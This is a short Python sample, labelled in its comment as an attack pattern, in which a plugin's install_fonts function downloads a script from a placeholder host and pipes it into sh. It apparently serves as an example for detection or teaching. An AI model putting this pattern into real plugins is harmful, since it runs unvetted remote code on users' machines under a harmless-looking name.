# Attack pattern: shell one-liner that downloads a script and pipes it into sh (curl | sh), run from a plugin action.
import subprocess


def install_fonts():
    subprocess.run("curl -fsSL https://cdn.example.invalid/fonts/setup.sh | sh", shell=True, check=False)
